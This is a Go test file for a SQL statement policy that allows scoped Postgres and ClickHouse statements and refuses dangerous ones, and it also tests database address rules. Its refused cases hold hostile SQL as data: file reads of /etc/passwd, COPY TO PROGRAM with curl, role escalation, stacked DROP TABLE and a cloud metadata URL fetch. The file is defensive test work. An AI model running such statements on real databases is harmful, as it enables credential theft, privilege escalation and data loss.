package sqlcap

import (
	"errors"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/abi"
	"github.com/sluicehq/sluice/host/runtime"
)

func TestPolicyPostgres(t *testing.T) {
	p := policy{d: postgres, database: "app", schema: "analytics"}
	allowed := []struct {
		sql, kind string
		tables    []string
	}{
		{`SELECT count(*) FROM events WHERE "timestamp" >= $1`, stmtSelect, []string{"events"}},
		{`select 1`, stmtSelect, nil},
		{`SELECT a.x FROM analytics.events a, "analytics"."Other" b WHERE a.x = b.x;`, stmtSelect, []string{"events", "Other"}},
		{`SELECT * FROM app.analytics.events`, stmtSelect, []string{"events"}},
		{`SELECT extract(epoch FROM e.ts) FROM events e`, stmtSelect, []string{"events"}},
		{`SELECT * FROM events WHERE uuid IN (SELECT uuid FROM sluice_stage_1)`, stmtSelect, []string{"events", "sluice_stage_1"}},
		{`SELECT 'DROP TABLE x; GRANT' AS s, $$pg_read_file('/etc/passwd')$$ -- COPY x TO PROGRAM
		  FROM events /* SET ROLE postgres; */`, stmtSelect, []string{"events"}},
		{`CREATE TABLE IF NOT EXISTS events (uuid VARCHAR(200), properties JSONB, "timestamp" TIMESTAMP WITH TIME ZONE)`, stmtCreateTable, []string{"events"}},
		{`CREATE UNLOGGED TABLE sluice_stage_r1 (uuid uuid, n int8)`, stmtCreateTable, []string{"sluice_stage_r1"}},
		{`CREATE TABLE analytics.t2 (LIKE events)`, stmtCreateTable, []string{"t2", "events"}},
		{`CREATE INDEX IF NOT EXISTS events_uuid ON events (uuid)`, stmtCreateIndex, []string{"events"}},
		{`ALTER TABLE events ADD COLUMN IF NOT EXISTS person_id uuid, ALTER COLUMN event TYPE text`, stmtAlterTable, []string{"events"}},
		{`INSERT INTO events (uuid, event) SELECT uuid::text, event FROM sluice_stage_r1 ON CONFLICT (uuid) DO UPDATE SET event = excluded.event`, stmtInsert, []string{"events", "sluice_stage_r1"}},
		{`INSERT INTO events VALUES ($1, $2)`, stmtInsert, []string{"events"}},
		{`MERGE INTO events t USING sluice_stage_r1 s ON t.uuid = s.uuid::text WHEN NOT MATCHED THEN INSERT (uuid) VALUES (s.uuid::text)`, stmtMerge, []string{"events", "sluice_stage_r1"}},
		{`UPDATE events SET event = 'x' WHERE uuid = $1`, stmtUpdate, []string{"events"}},
		{`DELETE FROM events t USING sluice_stage_r1 s WHERE t.uuid = s.uuid::text`, stmtDelete, []string{"events", "sluice_stage_r1"}},
		{`TRUNCATE TABLE sluice_stage_r1, "sluice_stage_r2"`, stmtTruncate, []string{"sluice_stage_r1", "sluice_stage_r2"}},
		{`DROP TABLE IF EXISTS sluice_stage_r1, analytics.sluice_stage_r2;`, stmtDropTable, []string{"sluice_stage_r1", "sluice_stage_r2"}},
		{`SELECT properties->>'$ip', properties ? 'k' FROM events`, stmtSelect, []string{"events"}},
		{`SELECT E'it\'s', 1.5e-3 FROM events`, stmtSelect, []string{"events"}},
	}
	for _, c := range allowed {
		got, err := p.check(c.sql)
		if err != nil {
			t.Errorf("%s: refused: %v", c.sql, err)
			continue
		}
		if got.kind != c.kind || strings.Join(got.tables, ",") != strings.Join(c.tables, ",") {
			t.Errorf("%s: kind %s tables %v, want %s %v", c.sql, got.kind, got.tables, c.kind, c.tables)
		}
	}
	refused := []struct{ sql, msg string }{
		{`COPY events TO PROGRAM 'curl evil'`, "COPY is only allowed as Redshift's COPY t [(cols)] FROM 's3://bucket/key'"},
		{`SET ROLE postgres`, `"SET ROLE" statements are not allowed`},
		{`GRANT ALL ON events TO public`, `"GRANT ALL" statements are not allowed`},
		{`DO $$ BEGIN PERFORM 1; END $$`, `"DO" statements are not allowed`},
		{`SELECT 1; DROP TABLE events`, "only one statement is allowed per call"},
		{`SELECT pg_read_file('/etc/passwd')`, "function pg_read_file(...) is not allowed"},
		{`SELECT * FROM events WHERE x = current_setting('is_superuser')`, "function current_setting(...) is not allowed"},
		{`SELECT set_config('role', 'postgres', false)`, "function set_config(...) is not allowed"},
		{`SELECT query_to_xml('select * from secret.t', true, true, '')`, "function query_to_xml(...) is not allowed"},
		{`SELECT lo_import('/etc/passwd')`, "function lo_import(...) is not allowed"},
		{`SELECT pg_catalog.now()`, "schema-qualified function call pg_catalog.now(...) is not allowed"},
		{`SELECT * FROM other.events`, `schema "other" is outside the bound schema "analytics"`},
		{`SELECT * FROM "Analytics".events`, `schema "Analytics" is outside the bound schema "analytics"`},
		{`SELECT * FROM otherdb.analytics.events`, `database "otherdb" is outside the bound database "app"`},
		{`SELECT * FROM pg_authid`, `table "pg_authid" may resolve to the system catalog`},
		{`SELECT * FROM "pg_shadow"`, `table "pg_shadow" may resolve to the system catalog`},
		{`SELECT * FROM information_schema.tables`, `schema "information_schema" is outside the bound schema`},
		{`SELECT * FROM events e, pg_catalog.pg_user u`, `schema "pg_catalog" is outside the bound schema`},
		{`SELECT * FROM (SELECT 1) s, other.t`, `schema "other" is outside the bound schema`},
		{`SELECT * FROM events WHERE uuid IN (SELECT uuid FROM other.t)`, `schema "other" is outside the bound schema`},
		{`SELECT * FROM generate_series(1, 10)`, "table function generate_series(...) is not allowed"},
		{`DROP TABLE events`, `DROP TABLE is only allowed on the plugin's stage tables (sluice_stage_*), not "events"`},
		{`DROP TABLE sluice_stage_1, events`, `not "events"`},
		{`TRUNCATE sluice_stage_1, events`, `not "events"`},
		{`DROP TABLE sluice_stage_1 CASCADE`, "CASCADE is not allowed"},
		{`DROP SCHEMA analytics`, `"DROP SCHEMA" statements are not allowed`},
		{`ALTER TABLE events OWNER TO mallory`, "ALTER TABLE ... OWNER is not allowed"},
		{`ALTER TABLE events RENAME TO x`, "ALTER TABLE ... RENAME is not allowed"},
		{`ALTER TABLE events ADD COLUMN x int, SET SCHEMA other`, "ALTER TABLE ... SET is not allowed"},
		{`CREATE TABLE t (x int) TABLESPACE fast`, "TABLESPACE is not allowed"},
		{`CREATE TABLE t PARTITION OF other.p FOR VALUES IN (1)`, "PARTITION OF is not allowed"},
		{`CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql`, `"CREATE FUNCTION" statements are not allowed`},
		{`CREATE TEMP TABLE t (x int)`, `"CREATE TEMP" statements are not allowed`},
		{`WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x`, "a leading WITH is not allowed"},
		{`SELECT 'unterminated`, "unterminated string literal"},
		{`SELECT $tag$ open`, "unterminated dollar-quoted string"},
		{`SELECT /* open`, "unterminated comment"},
		{`SELECT * FROM events /* nested /* */ ; DROP TABLE events`, "unterminated comment"},
		{`VACUUM events`, `"VACUUM EVENTS" statements are not allowed`},
		{`CALL p()`, `"CALL P" statements are not allowed`},
	}
	for _, c := range refused {
		_, err := p.check(c.sql)
		var ce *runtime.CapabilityError
		if !errors.As(err, &ce) || ce.Status != abi.StatusDenied || !strings.Contains(err.Error(), c.msg) {
			t.Errorf("%s: got %v, want denied with %q", c.sql, err, c.msg)
		}
	}
	if _, err := p.check(" ; "); !isStatus(err, abi.StatusBadArgument) {
		t.Errorf("empty statement: %v", err)
	}
}

func TestPolicyClickHouse(t *testing.T) {
	p := policy{d: clickhouse, database: "sluice"}
	allowed := []struct {
		sql, kind string
		tables    []string
	}{
		{"SELECT count() FROM events FINAL WHERE timestamp >= ?", stmtSelect, []string{"events"}},
		{"SELECT * FROM sluice.`events`", stmtSelect, []string{"events"}},
		{"CREATE TABLE IF NOT EXISTS events (uuid UUID, properties String) ENGINE = ReplacingMergeTree ORDER BY uuid", stmtCreateTable, []string{"events"}},
		{"CREATE TABLE sluice_stage_1 AS events ENGINE = Memory", stmtCreateTable, []string{"sluice_stage_1", "events"}},
		{"CREATE TABLE t (x Int64) ENGINE = ReplicatedMergeTree('/p', 'r') ORDER BY x", stmtCreateTable, []string{"t"}},
		{"ALTER TABLE events ADD COLUMN x String, MODIFY COLUMN y Int64", stmtAlterTable, []string{"events"}},
		{"ALTER TABLE events DELETE WHERE uuid IN (SELECT uuid FROM sluice_stage_1)", stmtAlterTable, []string{"events", "sluice_stage_1"}},
		{"INSERT INTO events SELECT * FROM sluice_stage_1", stmtInsert, []string{"events", "sluice_stage_1"}},
		{"OPTIMIZE TABLE events FINAL", stmtOptimize, []string{"events"}},
		{"DROP TABLE IF EXISTS sluice_stage_1", stmtDropTable, []string{"sluice_stage_1"}},
		{"TRUNCATE TABLE sluice_stage_1", stmtTruncate, []string{"sluice_stage_1"}},
	}
	for _, c := range allowed {
		got, err := p.check(c.sql)
		if err != nil {
			t.Errorf("%s: refused: %v", c.sql, err)
			continue
		}
		if got.kind != c.kind || strings.Join(got.tables, ",") != strings.Join(c.tables, ",") {
			t.Errorf("%s: kind %s tables %v, want %s %v", c.sql, got.kind, got.tables, c.kind, c.tables)
		}
	}
	refused := []struct{ sql, msg string }{
		{"SELECT * FROM system.users", `database "system" is outside the bound database "sluice"`},
		{"SELECT * FROM url('http://169.254.169.254/', CSV, 'a String')", "table function url(...) is not allowed"},
		{"INSERT INTO FUNCTION file('x.csv', CSV) SELECT 1", "INSERT INTO FUNCTION is not allowed"},
		{"SELECT file('/etc/passwd')", "function file(...) is not allowed"},
		{"SELECT dictGet('d', 'a', 1)", "function dictGet(...) is not allowed"},
		{"SELECT * FROM events INTO OUTFILE 'x'", "OUTFILE is not allowed"},
		{"CREATE TABLE t (x String) ENGINE = URL('http://x/', CSV)", `table engine "URL" is not allowed`},
		{"CREATE TABLE t (x String) ENGINE = Merge(other, '.*')", `table engine "Merge" is not allowed`},
		{"CREATE TABLE t AS other.events ENGINE = Memory", `database "other" is outside the bound database`},
		{"DROP TABLE events", `not "events"`},
		{"ALTER TABLE events DROP COLUMN x", "ALTER TABLE ... DROP is not allowed"},
		{"SYSTEM SHUTDOWN", `"SYSTEM SHUTDOWN" statements are not allowed`},
		{"KILL QUERY WHERE 1", `"KILL QUERY" statements are not allowed`},
		{"CREATE TABLE t ON CLUSTER c (x String) ENGINE = Memory", "CLUSTER is not allowed"},
		{"MERGE INTO events USING x ON 1", `"MERGE INTO" statements are not allowed`},
		{"SELECT 1; SELECT 2", "only one statement"},
	}
	for _, c := range refused {
		_, err := p.check(c.sql)
		if !isStatus(err, abi.StatusDenied) || !strings.Contains(err.Error(), c.msg) {
			t.Errorf("%s: got %v, want denied with %q", c.sql, err, c.msg)
		}
	}
}

func isStatus(err error, st abi.Status) bool {
	var ce *runtime.CapabilityError
	return errors.As(err, &ce) && ce.Status == st
}

func TestAddressPolicy(t *testing.T) {
	cases := []struct {
		cfg  Config
		addr string
		env  string // "": allowed
	}{
		{Config{}, "10.1.2.3:5432", ""},
		{Config{}, "192.168.0.10:5432", ""},
		{Config{}, "100.64.0.1:5432", ""},
		{Config{}, "[fd00::1]:5432", ""},
		{Config{}, "203.0.113.7:5432", ""},
		{Config{RefusePrivate: true}, "10.1.2.3:5432", "SLUICE_SQL_ALLOW_PRIVATE"},
		{Config{RefusePrivate: true}, "203.0.113.7:5432", ""},
		{Config{}, "127.0.0.1:5432", "SLUICE_SQL_ALLOW_LOOPBACK"},
		{Config{}, "[::1]:5432", "SLUICE_SQL_ALLOW_LOOPBACK"},
		{Config{}, "0.0.0.0:5432", "SLUICE_SQL_ALLOW_LOOPBACK"},
		{Config{AllowLoopback: true}, "127.0.0.1:5432", ""},
		{Config{AllowLoopback: true}, "169.254.169.254:80", "(nothing)"},
		{Config{AllowLoopback: true}, "[fe80::1]:5432", "(nothing)"},
	}
	for _, c := range cases {
		err := c.cfg.checkAddress("tcp", c.addr, nil)
		var ae *AddressError
		switch {
		case c.env == "" && err != nil:
			t.Errorf("%s with %+v: refused: %v", c.addr, c.cfg, err)
		case c.env != "" && (!errors.As(err, &ae) || ae.Env != c.env):
			t.Errorf("%s with %+v: %v, want refused naming %s", c.addr, c.cfg, err, c.env)
		}
	}
}
